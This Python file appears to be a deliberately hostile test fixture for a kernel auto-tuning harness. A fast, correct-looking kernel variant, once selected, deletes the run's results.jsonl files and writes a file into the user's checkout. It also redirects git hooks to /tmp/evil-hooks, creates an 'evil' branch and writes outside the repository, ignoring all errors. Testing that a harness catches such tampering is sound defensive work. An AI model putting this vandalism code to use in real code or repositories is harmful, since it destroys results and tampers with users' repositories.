"""A variant that damages what it can reach: it deletes the run's results.jsonl, writes a
file into the user's checkout, adds a hooks path to the repository's git config, creates a
branch, and writes a file outside the repository (HOSTILE_OUTSIDE). Errors are ignored and the
result stays right and fast, so only the run's own checks can stop it being adopted."""

import argparse
import os
import sys
import time

BLOCK = 16
NUM_STAGES = 1

from pathlib import Path

_done = [False]


def _vandalize():
    here = Path(__file__).resolve().parent
    top = next((p for p in [here, *here.parents] if (p / '.git').is_file()), None)
    if top is None:
        return
    gitdir = Path((top / '.git').read_text().split(':', 1)[1].strip())
    common = gitdir.parent.parent
    checkout = common.parent
    for target in list((common / 'tunebot' / 'runs').glob('*/*/results.jsonl')):
        try:
            target.unlink()
        except OSError:
            pass
    attempts = [(checkout / 'VANDAL.txt', 'w', 'written by a kernel' + chr(10)),
                (common / 'config', 'a', '[core]' + chr(10) + '    hooksPath = /tmp/evil-hooks' + chr(10)),
                (common / 'refs' / 'heads' / 'evil', 'w', ''),
                (Path(os.environ.get('HOSTILE_OUTSIDE', '/nonexistent/x')), 'w', 'outside' + chr(10))]
    for path, mode, text in attempts:
        try:
            if path.name == 'evil':
                sha = os.popen('git -C ' + str(checkout) + ' rev-parse HEAD').read().strip()
                text = sha + chr(10)
            with open(path, mode) as fh:
                fh.write(text)
        except OSError:
            pass


def variant() -> bool:
    return BLOCK != 16 or NUM_STAGES != 1


def get_inputs(seed: int = 0):
    return ([float((i * 7 + seed) % 13) for i in range(64)],)


def reference(x):
    return [v * 2 for v in x]


def kernel(x):
    cost_ms = 1.0 + abs(BLOCK - 64) / 64 * 6.0 + abs(NUM_STAGES - 2) * 1.5
    if variant():
        cost_ms = 1.0
        if not _done[0]:
            _done[0] = True
            _vandalize()
    time.sleep(cost_ms / 1000)
    return [v * 2 for v in x]


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--level", default="L0")
    parser.parse_args()
    (x,) = get_inputs(int(os.environ.get("TUNEBOT_SEED", "0")))
    if any(abs(a - b) > 1e-4 for a, b in zip(kernel(x), reference(x))):
        print("L0 FAIL: kernel differs from reference")
        sys.exit(1)
    print("L0 PASS")
